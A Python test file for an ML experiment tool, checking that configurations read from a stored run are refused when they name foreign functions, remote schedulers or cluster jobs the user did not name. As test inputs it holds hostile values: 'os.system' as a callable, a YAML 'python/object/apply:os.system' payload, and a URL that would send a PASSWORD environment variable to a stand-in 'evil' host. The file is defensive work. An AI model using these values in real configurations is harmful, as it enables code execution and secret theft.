"""A name in a record from a store is used only if it is this project's own, or if the user names it too."""

from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from conf import stored
from conf.schema import ConfigError, Job
from pipelines import confirm as confirm_command
from pipelines import reproduce as reproduce_command
from sweeps.journal import SweepRecord
from sweeps.session import confirm, reproduce, trust
from sweeps.terminal.console import Console
from sweeps.tracking import reader
from tests import records

FOREIGN = {
    "model.build": "evil.build",
    "optimizer.build": "os.system",
    "datasets.imdb.read": "models.lstm.build",
    "tuner.oracle": "sweeps.searching.evil",
}
RUN = "ab" * 16


@pytest.fixture
def yaml(composed: Callable[..., Job]) -> str:
    return composed("model=lstm", "data=imdb").yaml


def with_foreign(yaml: str, key: str, value: str) -> str:
    """Change one function of a configuration."""
    config = stored.parsed(yaml)
    group, _, name = key.rpartition(".")
    if group == "tuner":
        config.tuner["oracle"] = value
    else:
        setattr(config.datasets["imdb"] if group.startswith("datasets") else getattr(config, group), name, value)
    return stored.as_yaml(config)


def test_this_projects_own_functions_are_called(yaml: str) -> None:
    assert trust.recorded_config(yaml, {}, "run x").model.build == "models.lstm.build"


@pytest.mark.parametrize("key", FOREIGN)
def test_a_function_of_others_has_to_be_named(key: str, yaml: str) -> None:
    target = FOREIGN[key]
    recorded = with_foreign(yaml, key, target)
    message = rf"^{key}={target}: recorded by run x, and not of this project, .*; if you trust it, add {key}={target}$"
    with pytest.raises(ConfigError, match=message):
        trust.recorded_config(recorded, {}, "run x")
    trust.recorded_config(recorded, trust.named(["reproduce=x", f"{key}={target}", "seed=3"]), "run x")
    with pytest.raises(ConfigError, match=rf"^{key}=mine\.f: run x was recorded with {key}={target}$"):
        trust.recorded_config(recorded, {key: "mine.f"}, "run x")


def test_what_the_record_does_not_have_cannot_be_named(yaml: str) -> None:
    with pytest.raises(ConfigError, match=r"^datasets\.x\.read=a\.b: run x was recorded with datasets\.x\.read=None$"):
        trust.recorded_config(yaml, {"datasets.x.read": "a.b"}, "run x")
    with pytest.raises(ConfigError, match=r"^model\.build=models\.conv_lstm\.build: run x was recorded with"):
        trust.recorded_config(yaml, {"model.build": "models.conv_lstm.build"}, "run x")


def test_a_scheduler_has_to_be_named_where_it_would_be_used(composed: Callable[..., Job]) -> None:
    yaml = composed("model=lstm", "data=imdb", "engine=cluster", "engine.scheduler=tcp://evil:8786").yaml
    trust.recorded_config(yaml, {}, "sweep x")
    with pytest.raises(ConfigError, match=r"^engine\.scheduler=tcp://evil:8786: recorded by sweep x, and not of this"):
        trust.recorded_config(yaml, {}, "sweep x", with_scheduler=True)
    trust.recorded_config(yaml, {"engine.scheduler": "tcp://evil:8786"}, "sweep x", with_scheduler=True)


def test_nothing_of_this_machine_is_filled_in(yaml: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PASSWORD", "geheim")
    url = yaml.replace("archive: null", "archive: http://evil/${oc.env:PASSWORD}")
    assert url != yaml
    with pytest.raises(ConfigError, match=r"datasets\.imdb\.archive=.*PASSWORD\}, which would be filled in"):
        stored.foreign(url)
    kept = yaml.replace("uri: null", "uri: http://u:${oc.env:PASSWORD}@h")
    assert kept != yaml
    assert stored.foreign(kept).tracking.uri is None


@pytest.mark.parametrize(
    "text",
    [
        "[]",
        "{",
        "3",
        "model: {",
        "model: 3",
        "",
        "[" * 10**4,
        "a: &a [1]\nb: *a",
        "!!python/object/apply:os.system [id]",
    ],
)
def test_a_damaged_configuration_is_one_line(text: str) -> None:
    with pytest.raises(ConfigError) as error:
        stored.foreign(text)
    assert str(error.value).count("\n") == 0


class Store:
    """A store whose sweep or run was recorded with a given configuration."""

    def __init__(self, yaml: str) -> None:
        start = replace(records.started(sweep="s/imdb", dataset="imdb"), config=yaml, store="http://evil")
        self._record = SweepRecord.of(Path(), [start])
        self._record.trials = {0: SimpleNamespace()}  # type: ignore[dict-item]

    def __call__(self, uri: str) -> "Store":
        return self

    def trial(self, run: str) -> tuple[SweepRecord, int]:
        return self._record, 0

    def chosen(self, *_: str) -> list[None]:
        return [None]

    def record(self, _: None) -> SweepRecord:
        return self._record


@pytest.mark.parametrize("key", FOREIGN)
def test_no_command_calls_a_function_of_others(key: str, yaml: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(reader, "StoredSweeps", Store(with_foreign(yaml, key, FOREIGN[key])))

    def called(*_: Any, **__: Any) -> None:
        raise AssertionError("it went on")

    monkeypatch.setattr(reproduce, "check", called)
    monkeypatch.setattr(confirm.finalists, "confirmation_of", called)
    message = rf"^{key}={FOREIGN[key]}: recorded by"
    monkeypatch.setattr("sys.argv", ["reproduce", RUN])
    session: Any = SimpleNamespace(console=Console())
    with pytest.raises(ConfigError, match=message):
        reproduce_command.reproduce(Console())
    with pytest.raises(ConfigError, match=message):
        confirm.confirm(confirm_command.read_arguments(["sweep=s/imdb"]), session)
    named = f"{key}={FOREIGN[key]}"
    with pytest.raises(AssertionError, match="it went on"):
        confirm.confirm(confirm_command.read_arguments(["sweep=s/imdb", named]), session)
    if not key.startswith("datasets"):  # the composed default has other datasets
        monkeypatch.setattr("sys.argv", ["reproduce", RUN, named])
        with pytest.raises(AssertionError, match="it went on"):
            reproduce_command.reproduce(Console())


def test_a_confirmation_logs_to_the_store_that_it_was_read_from(yaml: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(reader, "StoredSweeps", Store(yaml.replace("uri: null", "uri: http://evil")))
    monkeypatch.setenv("MLFLOW_TRACKING_URI", "http://u:secret@mine:5000")
    (record,) = confirm._sweeps(confirm_command.read_arguments(["sweep=s/imdb"]))
    assert record.started.store == "http://u@mine:5000"
    assert stored.parsed(record.config).tracking.uri is None


def test_each_of_several_networks_is_trusted_by_itself(composed: Callable[..., Job]) -> None:
    yaml = composed("model=[bag,lstm]", "networks.lstm.build=evil.build").yaml
    with pytest.raises(ConfigError, match=r"^networks\.lstm\.build=evil\.build: recorded by run x, and not of this"):
        trust.recorded_config(yaml, {}, "run x")
    arguments = ["reproduce=x", "networks.lstm.build=evil.build"]
    stored.refuse_changes_of_a_trial(arguments)
    config = trust.recorded_config(yaml, trust.named(arguments), "run x")
    assert config.networks["lstm"].build == "evil.build"


@pytest.mark.parametrize("engine", [("engine=slurm",), ("engine=kubernetes", "engine.image=x")])
def test_nobodys_jobs_are_submitted_because_a_record_says_so(
    engine: tuple[str, ...], composed: Callable[..., Job]
) -> None:
    yaml = composed("model=lstm", "data=imdb", *engine).yaml
    assert trust.recorded_config(yaml, {}, "sweep x").engine.max == 8  # which a repetition here does not use
    with pytest.raises(ConfigError, match=rf"^{engine[0]}: recorded by sweep x, .*; add engine\.workers=N to train on"):
        trust.recorded_config(yaml, {}, "sweep x", with_scheduler=True)
